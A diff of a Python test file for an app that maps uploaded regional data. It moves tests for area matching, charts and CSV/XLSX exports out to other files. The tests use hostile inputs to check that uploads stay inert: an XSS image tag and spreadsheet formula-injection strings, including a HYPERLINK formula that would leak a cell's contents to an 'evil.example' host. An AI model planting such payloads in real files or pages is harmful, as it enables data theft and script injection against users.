@@ -1,139 +1,37 @@
-"""Your data builders: matching uploaded codes and names to official areas (reviewable, never a guess),
-the choropleth and charts of an upload, and its exports. Reference areas and values come from the
-committed parquet files, read here with pandas."""
+"""Your data view: the choropleth of an upload (official or uploaded boundaries), its map figure, legends,
+credits and defaults (components/your_data.py). Reference areas and values come from the committed parquet
+files (tests/components/your_data_data.py)."""
 
 from __future__ import annotations
 
 import json
-import math
-import re
 from html import escape
-from pathlib import Path
 
 import numpy as np
 import pandas as pd
 import pytest
-import vl_convert
 
-from components import upload_matching as matching
 from components import your_data as yd
 from components.exports import (
     LICENCE_LINE,
     OS_LINE,
-    Figure,
     figure_data,
-    figure_exports,
     source_lines,
     spec_dict,
 )
 from components.legend import legend_html
+from components.overview import LEVEL_LABELS
 from components.palettes import NO_DATA, VIRIDIS_5
-from loaders.errors import SourceFormatError
-from loaders.uploads import boundary_web_geojson, read_boundary_upload, read_values_upload
-from tests.export_checks import check_csvw, could_run_as_formula, csv_cells, read_plain_csv
-from tests.loaders.hostile_builders import csv_bytes, xlsx_bytes
+from loaders.uploads import boundary_web_geojson, read_boundary_upload
+from tests.components.your_data_data import (
+    LEPS,
+    METADATA,
+    XSS,
+    boundaries,
+    lep_values,
+)
 
-REPO = Path(__file__).resolve().parents[2]
-AREAS = pd.read_parquet(REPO / "regional_data" / "areas.parquet")
-PARQUET = pd.read_parquet(REPO / "regional_data" / "indicators.parquet")
-METADATA = json.loads((REPO / "regional_data" / "indicators.json").read_text(encoding="utf-8"))
-XSS = "<img src=x onerror=alert(1)>"
-
-
-def reference(level: str) -> dict[str, str]:
-    rows = AREAS[AREAS["geography"] == level]
-    return dict(zip(rows["area_code"], rows["area_name"], strict=True))
-
-
-def boundaries(level: str) -> dict:
-    return json.loads((REPO / "geo" / f"{level}.geojson").read_text(encoding="utf-8"))
-
-
-LEPS = reference("lep")
-LADS = reference("lad")
-NORTH_EAST = next(code for code, name in LEPS.items() if name == "North East")
-CHESHIRE = next(code for code, name in LEPS.items() if name == "Cheshire and Warrington")
-
-
-# --- matching -----------------------------------------------------------------------------------------
-
-
-def test_codes_match_exactly_whatever_their_case() -> None:
-    table = matching.match_table([NORTH_EAST.lower(), " " + CHESHIRE, "E06000001", "E99999999"], "code", LEPS)
-    by_key = table.set_index("uploaded")
-    assert by_key.loc[NORTH_EAST.lower(), "area_code"] == NORTH_EAST
-    assert by_key.loc[" " + CHESHIRE, "official_name"] == "Cheshire and Warrington"
-    assert by_key.loc["E06000001", "status"] == matching.UNMATCHED  # a LAD code is not a LEP
-    assert by_key.loc["E99999999", "status"] == matching.UNMATCHED
-    assert list(table.columns) == matching.MATCH_COLUMNS
-
-
-def test_names_with_one_unmatched_and_one_ambiguous() -> None:
-    upload = read_values_upload(
-        "names.csv",
-        csv_bytes([["Area", "Score"], ["North East", 1], ["Cheshire & Warrington", 2], ["Narnia", 3], ["Newport", 4]]),
-    )
-    # A reference with two areas called Newport (as a mixed-vintage list could have): never a guess.
-    ref = {**LEPS, "W06000022": "Newport", "X00000001": "Newport"}
-    table = matching.match_upload(upload, ref).set_index("uploaded")
-    assert table.loc["North East", ["area_code", "status"]].tolist() == [NORTH_EAST, matching.MATCHED]
-    assert table.loc["Cheshire & Warrington", ["area_code", "status"]].tolist() == [CHESHIRE, matching.MATCHED]
-    assert table.loc["Narnia", ["area_code", "status"]].tolist() == ["", matching.UNMATCHED]
-    assert table.loc["Newport", ["area_code", "status"]].tolist() == ["", matching.AMBIGUOUS]
-    assert "W06000022 Newport" in table.loc["Newport", "detail"] and "X00000001" in table.loc["Newport", "detail"]
-    summary = matching.match_summary(table.reset_index(), "LEPs")
-    assert summary == "2 of 4 areas in your file matched LEPs; 1 unmatched, 1 ambiguous (not mapped until resolved)."
-
-
-def test_normalised_names_match_but_two_rows_on_one_area_are_flagged() -> None:
-    table = matching.match_table(["St Helens", "St. Helens", "Kingston upon Hull, City of"], "name", LADS)
-    assert set(table["status"][:2]) == {matching.DUPLICATE}
-    assert "2 rows match" in table["detail"][0]
-    hull = next(code for code, name in LADS.items() if "Hull" in name)
-    assert table.loc[2, ["area_code", "status"]].tolist() == [hull, matching.MATCHED]
-
-
-def test_user_choices_resolve_rows_and_are_rechecked() -> None:
-    table = matching.match_table(["Narnia", "North East", "north east"], "name", LEPS)
-    assert table["status"].tolist() == [matching.UNMATCHED, matching.DUPLICATE, matching.DUPLICATE]
-    resolved = matching.apply_choices(table, {"Narnia": CHESHIRE, "north east": matching.LEAVE_OUT}, LEPS)
-    assert resolved["status"].tolist() == [matching.CHOSEN, matching.MATCHED, matching.LEFT_OUT]
-    assert resolved.loc[0, "official_name"] == "Cheshire and Warrington"
-    clash = matching.apply_choices(table, {"Narnia": NORTH_EAST, "north east": matching.LEAVE_OUT}, LEPS)
-    assert clash["status"].tolist() == [matching.DUPLICATE, matching.DUPLICATE, matching.LEFT_OUT]
-    ignored = matching.apply_choices(table, {"Narnia": "NOT A CODE"}, LEPS)
-    assert ignored.loc[0, "status"] == matching.UNMATCHED
-
-
-def test_level_suggestion_for_codes_of_another_level() -> None:
-    lad_codes = list(LADS)[:25]
-    assert matching.suggest_level(lad_codes, "code", AREAS, "lep") == ("lad", 25)
-    assert matching.suggest_level(lad_codes, "code", AREAS, "lad") is None
-    assert matching.suggest_level([], "code", AREAS, "lep") is None
-
-
-def test_matched_values_by_period_and_column() -> None:
-    upload = read_values_upload(
-        "p.csv",
-        csv_bytes(
-            [
-                ["code", "name", "year", "jobs", "firms"],
-                [NORTH_EAST, XSS, 2021, 10, 1],
-                [NORTH_EAST, XSS, 2022, 11, 2],
-                [CHESHIRE, "Ches", 2022, "c", 3],
-                ["E99999999", "Nowhere", 2022, 5, 5],
-            ]
-        ),
-    )
-    matches = matching.match_upload(upload, LEPS)
-    assert matches.set_index("uploaded").loc[NORTH_EAST, "name_in_file"] == XSS
-    assert yd.periods_of(upload, "jobs") == [2022, 2021]
-    values = yd.matched_values(upload, matches, "jobs", 2022)
-    assert values["area_code"].tolist() == [CHESHIRE, NORTH_EAST]  # sorted by official name
-    assert values["area_name"].tolist() == ["Cheshire and Warrington", "North East"]
-    assert math.isnan(values.loc[0, "value"]) and values.loc[0, "status"] == "suppressed"
-    assert values.loc[1, "value"] == 11.0 and values.loc[1, "name_in_file"] == XSS
-    assert yd.matched_values(upload, matches, "firms", 2021)["value"].tolist() == [1.0]
+# --- values of the matched areas -------------------------------------------------------------------------
 
 
 def test_decimals_for() -> None:
@@ -144,19 +42,6 @@ def test_decimals_for() -> None:
 
 
 # --- map ------------------------------------------------------------------------------------------------
-
-
-def lep_values() -> pd.DataFrame:
-    codes = sorted(LEPS)[:10]
-    return pd.DataFrame(
-        {
-            "area_code": codes,
-            "area_name": [LEPS[c] for c in codes],
-            "value": [float(i) for i in range(10)],
-            "status": [""] * 10,
-            "name_in_file": [XSS] + [LEPS[c] for c in codes[1:]],
-        }
-    )
 
 
 def test_map_of_uploaded_values_over_official_boundaries() -> None:
@@ -219,246 +104,7 @@ def test_map_over_uploaded_boundaries_is_fitted_to_them() -> None:
     assert spec["mapStyle"] == "__MAP_STYLE__"
 
 
-# --- charts and exports ------------------------------------------------------------------------------
-
-
-def official_rows(indicator: str, level: str, year: int) -> pd.DataFrame:
-    return PARQUET[(PARQUET["indicator"] == indicator) & (PARQUET["geography"] == level) & (PARQUET["period"] == year)]
-
-
-def test_comparison_with_an_official_indicator() -> None:
-    official = official_rows("gva_per_hour", "lep", 2022)
-    values = lep_values()
-    table = yd.comparison_table(values, official)
-    expected = official.set_index("area_code").loc[values["area_code"], "value"].to_numpy()
-    np.testing.assert_allclose(table.set_index("area_code").loc[values["area_code"], "official"], expected)
-    r, count = yd.correlation(table)
-    assert count == 10 and r == pytest.approx(np.corrcoef(np.arange(10.0), expected)[0, 1])
-    chart = yd.comparison_chart(
-        table,
-        uploaded_label="Score",
-        official_label="GVA per hour (£)",
-        official_format="$,.2f",
-        uploaded_decimals=0,
-        title="t",
-        subtitle="s",
-        source=yd.upload_source(XSS),
-        selected_code=values["area_code"][3],
-    )
-    spec = chart.to_dict()
-    points = dataset_of(spec, spec["layer"][0])
-    assert len(points) == 10 and sum(row["selected"] for row in points) == 1
-    assert spec["title"]["subtitle"][1] == f"Source: Your data: {XSS} (uploaded, not checked by us)"
-    assert yd.correlation(table.head(2)) == (None, 2)
-
-
-# --- the selected area is marked by more than colour ----------------------------------------------------
-
-
-def colour_rule() -> tuple:
-    """The very rule tests/e2e/test_accessibility.py applies to every chart the pages draw."""
-    from tests.e2e.test_accessibility import colour_alone, layer_groups
-
-    return colour_alone, layer_groups
-
-
-def dataset_of(spec: dict, unit: dict) -> list[dict]:
-    return spec["datasets"][unit["data"]["name"]]
-
-
-def text_layers(spec: dict) -> list[dict]:
-    return [
-        unit
-        for unit in spec["layer"]
-        if (unit["mark"]["type"] if isinstance(unit["mark"], dict) else unit["mark"]) == "text"
-    ]
-
-
-@pytest.mark.parametrize("selected", [None, 3])
-def test_bar_chart_marks_the_selected_bar_in_words_outline_and_bold_label(selected: int | None) -> None:
-    values = lep_values()
-    code = values["area_code"][selected] if selected is not None else None
-    spec = yd.uploaded_bar_chart(values, "Score", "Score", "sub", 0, code, source=yd.upload_source("my.csv")).to_dict()
-    bars = next(unit for unit in spec["layer"] if unit["mark"]["type"] == "bar")
-    assert [row["value"] for row in dataset_of(spec, bars)] == [9.0, 8.0, 7.0, 6.0, 5.0, 4.0, 3.0, 2.0, 1.0, 0.0]
-    assert bars["encoding"]["strokeWidth"] == {"condition": {"test": "datum.selected", "value": 2}, "value": 0}
-    axis = bars["encoding"]["y"]["axis"]
-    (words,) = text_layers(spec)
-    marked = dataset_of(spec, words)
-    if code is None:
-        assert marked == [] and "labelFontWeight" not in axis and "labelExpr" not in axis
-    else:
-        test = f"datum.value === {json.dumps(values['area_name'][selected])}"
-        assert [(row["area_code"], row["mark_text"]) for row in marked] == [(code, "◄ selected")]
-        assert axis["labelFontWeight"] == {"condition": {"test": test, "value": "bold"}, "value": "normal"}
-        assert axis["labelExpr"] == f'{test} ? "\\u25ba " + datum.label : datum.label'
-        assert words["encoding"]["text"]["field"] == "mark_text"
-    assert spec["title"]["subtitle"] == ["sub", "Source: Your data: my.csv (uploaded, not checked by us)"]
-    colour_alone, layer_groups = colour_rule()
-    groups = list(layer_groups(spec))
-    assert groups and all(colour_alone(group) == [] for _, group in groups)
-    # without the outline and the bold label, the same rule would flag the bar chart
-    bare = json.loads(json.dumps(bars))
-    del bare["encoding"]["strokeWidth"]
-    bare["encoding"]["y"]["axis"].pop("labelFontWeight", None)
-    assert colour_alone([bare, words]) == ["color highlights by colour only"]
-
-
-def test_scatter_names_the_selected_point_beside_it() -> None:
-    values = lep_values()
-    table = yd.comparison_table(values, official_rows("gva_per_hour", "lep", 2022))
-    code = values["area_code"][5]
-    spec = yd.comparison_chart(
-        table,
-        uploaded_label="Score",
-        official_label="GVA per hour (£)",
-        official_format="$,.2f",
-        uploaded_decimals=0,
-        title="t",
-        subtitle="s",
-        source="x",
-        selected_code=code,
-    ).to_dict()
-    points = spec["layer"][0]
-    assert points["encoding"]["shape"]["condition"]["value"] == "diamond"
-    (words,) = text_layers(spec)
-    (row,) = dataset_of(spec, words)
-    assert row["area_code"] == code and row["mark_text"] == f"◄ {values['area_name'][5]} (selected)"
-    assert (words["encoding"]["x"]["field"], words["encoding"]["y"]["field"]) == ("official", "uploaded")
-    colour_alone, layer_groups = colour_rule()
-    assert all(colour_alone(group) == [] for _, group in layer_groups(spec))
-
-
-def test_a_hostile_selected_name_renders_as_text() -> None:
-    """The bold-label test embeds the selected name in a Vega expression: quotes and backslashes in an
-    uploaded name are escaped, so the chart still renders and the name is drawn bold, as written."""
-    values = lep_values()
-    odd = "Quote \" and \\ back'slash </text>"
-    values.loc[2, "area_name"] = odd
-    spec = yd.uploaded_bar_chart(values, "Score", "Score", "sub", 0, values["area_code"][2]).to_dict()
-    spec["width"] = 600
-    svg = vl_convert.vegalite_to_svg(spec)
-    assert "◄ selected" in svg
-    bold = re.findall(r'<text[^>]*font-weight="bold"[^>]*>([^<]*)</text>', svg)
-    assert "► " + escape(odd, quote=False) in [text.replace("&quot;", '"').replace("&#39;", "'") for text in bold]
-
-
-def test_a_long_ranking_draws_both_ends_and_the_selected_area() -> None:
-    codes = sorted(LADS)[:60]
-    values = pd.DataFrame(
-        {
-            "area_code": codes,
-            "area_name": [LADS[c] for c in codes],
-            "value": [float(i) for i in range(60)],
-            "status": "",
-        }
-    )
-    middle = codes[30]
-    rows = yd.uploaded_bar_rows(values, middle)
-    assert len(rows) == 41 and middle in set(rows["area_code"]) and rows["selected"].sum() == 1
-    assert yd.bar_subtitle("Local authorities", values, middle) == (
-        "Local authorities: the 20 largest and 20 smallest of 60 areas and the selected area, largest first"
-    )
-    assert yd.bar_subtitle("LEPs", values.head(10), None) == "LEPs, ranked largest first"
-
-
-# --- figures: the shared download menu, slide pack and presentation mode -------------------------------
-
-
-def files_of(figure: Figure) -> dict[str, bytes]:
-    return {export.label: export.build() for export in figure_exports(figure, METADATA, {})}
-
-
-def read_export_csv(data: bytes) -> pd.DataFrame:
-    return read_plain_csv(data)
-
-
-def test_bar_figure_exports_round_trip_to_the_uploaded_values() -> None:
-    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
-    values.loc[4, "status"] = "estimated"
-    values.loc[1, "name_in_file"] = '=HYPERLINK("http://x")'
-    chart = yd.uploaded_bar_chart(
-        values,
-        "Score, 2022",
-        "Score, 2022 (your data), ranked",
-        "LEPs, ranked",
-        0,
-        values["area_code"][4],
-        source=yd.upload_source("mine.csv"),
-    )
-    figure = yd.bar_figure(
-        values,
-        chart,
-        selected_code=values["area_code"][4],
-        column="Score",
-        period=2022,
-        file_name="mine.csv",
-        level="lep",
-    )
-    assert (figure.title, figure.subtitle, figure.kind) == ("Score, 2022 (your data), ranked", "LEPs, ranked", "chart")
-    assert source_lines(figure)[0] == "Source: Your data: mine.csv (uploaded, not checked by us)."
-    assert source_lines(figure)[1].startswith("Your values: under their owner's terms, not the Open Government")
-    assert "Crown copyright" not in source_lines(figure)[1]  # no boundaries on a bar chart
-    files = files_of(figure)
-    assert list(files) == [
-        "Image (PNG, 2x)",
-        "Image (SVG)",
-        "Vega-Lite JSON",
-        "Data (CSV)",
-        "Data description (CSVW, JSON)",
-        "Data (XLSX)",
-    ]
-    assert files["Image (PNG, 2x)"][:8] == b"\x89PNG\r\n\x1a\n"
-    svg = files["Image (SVG)"].decode("utf-8")
-    assert "mine.csv" in svg and "◄ selected" in svg and "Source: ONS" not in svg
-    table = read_export_csv(files["Data (CSV)"])
-    assert list(table.columns[:6]) == ["area_code", "area_name", "period", "value", "unit", "status"]
-    merged = table.merge(values, on="area_code", suffixes=("", "_uploaded"))
-    assert len(merged) == len(values) == len(table)
-    np.testing.assert_allclose(merged["value"], merged["value_uploaded"])
-    assert (merged["area_name"] == merged["area_name_uploaded"]).all()
-    assert (table["period"] == 2022).all() and (table["unit"] == yd.UPLOADED_UNIT).all()
-    assert table.set_index("area_code").loc[values["area_code"][4], "status"] == "estimated"
-    by_code = table.set_index("area_code")
-    assert by_code.loc[values["area_code"][0], "name_in_file"] == XSS  # a name from the file stays text
-    assert by_code.loc[values["area_code"][1], "name_in_file"] == '\'=HYPERLINK("http://x")'  # never a formula
-
-
-def test_scatter_figure_exports_both_sources_and_both_values() -> None:
-    values = lep_values()
-    official = official_rows("gva_per_hour", "lep", 2022)
-    table = yd.comparison_table(values, official)
-    meta = METADATA["gva_per_hour"]
-    chart = yd.comparison_chart(
-        table,
-        uploaded_label="Score",
-        official_label="GVA per hour (£)",
-        official_format="$,.2f",
-        uploaded_decimals=0,
-        title="Score against GVA",
-        subtitle="s",
-        source="x",
-        selected_code=None,
-    )
-    figure = yd.comparison_figure(
-        table,
-        chart,
-        selected_code=None,
-        column="Score",
-        period=None,
-        file_name="mine.csv",
-        level="lep",
-        indicator="gva_per_hour",
-        meta=meta,
-        year=2022,
-    )
-    assert figure.indicators == ("gva_per_hour",) and figure.title == "Score against GVA"
-    assert source_lines(figure)[0] == f"Source: Your data: mine.csv (uploaded, not checked by us); {meta['source']}."
-    data = read_export_csv(files_of(figure)["Data (CSV)"])
-    truth = official.set_index("area_code")["value"]
-    np.testing.assert_allclose(data["official_value"], truth.reindex(data["area_code"]).to_numpy())
-    np.testing.assert_allclose(data["value"], values.set_index("area_code")["value"].reindex(data["area_code"]))
-    assert (data["official_period"] == 2022).all() and (data["official_unit"] == meta["unit"]).all()
+# --- map figure: the shared download menu, slide pack and presentation mode ----------------------------
 
 
 def test_map_figure_is_the_static_twin_of_the_uploaded_map() -> None:
@@ -493,80 +139,16 @@ def test_map_figure_is_the_static_twin_of_the_uploaded_map() -> None:
     assert view.note == "Five classes with equal numbers of areas (quantiles)."
 
 
-def test_matched_csv_is_plain_described_and_formula_safe() -> None:
-    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
-    values.loc[1, "name_in_file"] = '=HYPERLINK("http://x")'
-    data = yd.matched_csv(values, level="lep", column="Score", period=2022)
-    body = read_plain_csv(data)
-    assert body["Score"].tolist() == list(map(float, range(10)))
-    assert body["level"].unique().tolist() == ["lep"] and body["period"].unique().tolist() == [2022]
-    assert body.loc[1, "name_in_file"].startswith("'=")
-    assert body.loc[0, "name_in_file"] == XSS
-    document = check_csvw(
-        data,
-        yd.matched_csvw(values, source="my.csv", level="lep", column="Score", period=2022, csv_name="m.csv"),
-        "m.csv",
-    )
-    assert "Your data: my.csv (uploaded, not checked by us)" in document["dc:description"]
-    assert "Open Government Licence v3.0" in document["dc:source"]
-
-
-def test_a_formula_as_the_users_column_name_is_made_inert() -> None:
-    """Issue 12, item 5: the header was renamed to the user's column name and written unescaped."""
-    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
-    column = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
-    data = yd.matched_csv(values, level="lep", column=column, period=2022)
-    assert "'" + column in read_plain_csv(data).columns
-    assert not [cell for cell in csv_cells(data) if could_run_as_formula(cell)]
-
-
 # --- helpers ---------------------------------------------------------------------------------------------
-
-
-def test_read_safely_never_raises() -> None:
-    assert yd.read_safely(read_values_upload, "a.csv", b"")[1].problem == "file is empty"
-
-    def broken(name: str, data: bytes) -> None:
-        raise ZeroDivisionError("boom")
-
-    result, error = yd.read_safely(broken, "b.csv", b"x")
-    assert result is None and isinstance(error, SourceFormatError)
-    assert str(error) == (
-        "b.csv: could not be read: part of it is in a form this page does not understand; check the file and try again"
-    )
-
-
-def test_template_lists_the_level_areas() -> None:
-    template = pd.read_csv(pd.io.common.BytesIO(yd.template_csv(AREAS, "cauth")), dtype=str, keep_default_na=False)
-    assert sorted(template["area_code"]) == sorted(reference("cauth"))
-    assert set(template["value"]) == {""}
-
-
-def test_example_file_round_trips_the_snapshot_values() -> None:
-    rows = official_rows("employment_rate_16_64", "lad", 2023)
-    upload = read_values_upload("example.csv", yd.example_csv(rows, METADATA["employment_rate_16_64"], LADS))
-    assert upload.key_kind == "name"
-    matches = matching.match_upload(upload, LADS)
-    assert matches["status"].eq(matching.MATCHED).all()
-    values = yd.matched_values(upload, matches, upload.value_columns[0], None).set_index("area_code")
-    expected = rows.set_index("area_code")
-    np.testing.assert_allclose(values["value"], expected.loc[values.index, "value"].round(1), equal_nan=True)
-    missing = expected["value"].isna()
-    assert (values.loc[missing[missing].index, "status"] == expected.loc[missing, "status"]).all()
 
 
 def test_example_and_comparison_defaults() -> None:
     assert yd.compare_default(["a", "gva_per_hour", "median_weekly_pay"]) == "gva_per_hour"
     assert yd.compare_default(["a", "b"], avoid="a") == "b"
     assert yd.example_indicator(METADATA, "lep", "gva_per_hour") == "employment_rate_16_64"
-    for level in matching.LEVELS:
+    for level in LEVEL_LABELS:
         key = yd.example_indicator(METADATA, level, "gva_per_hour")
         assert key != "gva_per_hour" and level in METADATA[key]["geographies"]
-
-
-def test_xlsx_upload_matches_like_csv() -> None:
-    upload = read_values_upload("a.xlsx", xlsx_bytes([["LEP name", "v"], ["North East", 2], ["Cumbria", 3]]))
-    assert matching.match_upload(upload, LEPS)["status"].tolist() == [matching.MATCHED, matching.MATCHED]
 
 
 def test_few_distinct_values_get_one_class_each_labelled_by_value() -> None:
@@ -586,21 +168,6 @@ def test_quantile_legend_labels_never_repeat() -> None:
     assert len(labels) == 5 and len(set(labels)) == 5
     assert labels[0].startswith("10.0 to ")
     assert yd.axis_format(0) == ",.2~f" and yd.axis_format(3) == ",.3~f"
-
-
-def test_choices_from_the_edited_match_table() -> None:
-    table = matching.match_table(["Narnia", "North East", "Mordor"], "name", LEPS)
-    options = matching.choice_options(LEPS)
-    assert options[:2] == ["", matching.LEAVE_OUT] and f"{CHESHIRE} Cheshire and Warrington" in options
-    edited = table.assign(your_choice=[f"{CHESHIRE} Cheshire and Warrington", None, matching.LEAVE_OUT])
-    choices = matching.choices_made(edited, LEPS)
-    assert choices == {"Narnia": CHESHIRE, "Mordor": matching.LEAVE_OUT}
-    assert matching.apply_choices(table, choices, LEPS)["status"].tolist() == [
-        matching.CHOSEN,
-        matching.MATCHED,
-        matching.LEFT_OUT,
-    ]
-    assert matching.choices_made(table.assign(your_choice=["not an option", "", ""]), LEPS) == {}
 
 
 def test_credit_licenses_only_the_official_parts() -> None:
